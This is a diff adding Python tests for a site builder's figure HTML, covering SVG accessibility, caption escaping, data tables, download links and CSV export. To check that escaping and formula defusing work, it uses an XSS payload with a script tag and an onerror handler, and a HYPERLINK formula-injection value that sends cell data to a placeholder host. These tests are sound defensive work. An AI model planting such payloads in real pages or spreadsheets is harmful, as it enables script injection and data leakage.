@@ -1,0 +1,83 @@
+"""The figure's HTML: structure, accessibility, escaping, downloads."""
+
+from __future__ import annotations
+
+from bs4 import BeautifulSoup
+
+from site_builder.catalog import Source
+from site_builder.figure import (
+    FigureLinks,
+    accessible_svg,
+    body_html,
+    caption_html,
+    data_csv,
+    format_cell,
+)
+
+SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" class="marks" width="100" height="50" '
+    'viewBox="0 0 100 50"><defs><clipPath id="clip1"><rect/></clipPath></defs>'
+    '<g clip-path="url(#clip1)"></g></svg>'
+)
+EVIL = '"><img src=x onerror=alert(1)><script>window.__xss=1</script>'
+
+
+def test_accessible_svg_has_name_description_and_unique_ids() -> None:
+    soup = BeautifulSoup(accessible_svg(SVG, "c1", "Title " + EVIL, "Desc " + EVIL), "html.parser")
+    svg = soup.svg
+    assert svg["role"] == "img"
+    assert svg["aria-labelledby"] == "c1-svg-title c1-svg-desc"
+    assert soup.find(id="c1-svg-title").get_text() == "Title " + EVIL
+    assert soup.find(id="c1-svg-desc").get_text() == "Desc " + EVIL
+    assert soup.find("clippath")["id"] == "c1-clip1"
+    assert soup.find("g")["clip-path"] == "url(#c1-clip1)"
+    assert soup.find("script") is None and soup.find("img") is None
+
+
+def test_caption_escapes_metadata() -> None:
+    html = caption_html("c1", EVIL, "Sub", [EVIL], [Source(EVIL, 'https://e.org/?a=1&b="2"')])
+    soup = BeautifulSoup(html, "html.parser")
+    assert soup.find("script") is None and soup.find("img") is None
+    assert soup.select_one(".sb-figure__title").get_text() == EVIL
+    link = soup.select_one(".sb-figure__source a")
+    assert link["href"] == 'https://e.org/?a=1&b="2"'
+    assert link.get_text() == EVIL
+
+
+def test_body_has_table_and_downloads() -> None:
+    rows = [{"country": "China", "share": 92.0, "note": EVIL}, {"country": "NA", "share": None}]
+    html = body_html(
+        "c1",
+        "T",
+        "D",
+        SVG,
+        rows,
+        [("country", "Country"), ("share", "Share (%)")],
+        FigureLinks(png="../a/c1.png", csv="../a/c1.csv", spec="../a/c1.vl.json"),
+    )
+    soup = BeautifulSoup(html, "html.parser")
+    assert [th.get_text() for th in soup.select("details table th")] == ["Country", "Share (%)"]
+    assert [[td.get_text() for td in tr.select("td")] for tr in soup.select("tbody tr")] == [
+        ["China", "92"],
+        ["NA", "–"],
+    ]
+    assert soup.select_one(".sb-figure__table")["tabindex"] == "0"
+    assert [a["href"] for a in soup.select(".sb-figure__downloads a")] == [
+        "../a/c1.csv",
+        "../a/c1.png",
+    ]
+
+
+def test_csv_download_defuses_formulas() -> None:
+    rows = [{"a": '=HYPERLINK("http://x?"&A1)', "b": -3.0}, {"a": "@SUM(1)", "b": 2.5}]
+    assert data_csv(rows, ["a", "b"]) == (
+        'a,b\n"\'=HYPERLINK(""http://x?""&A1)",-3\n\'@SUM(1),2.5\n'
+    )
+
+
+def test_format_cell() -> None:
+    assert format_cell(90.0) == "90"
+    assert format_cell(4.25) == "4.25"
+    assert format_cell(True) == "yes"
+    assert format_cell("2025-08-10T00:00:00") == "2025-08-10"
+    assert format_cell(None) == "–"
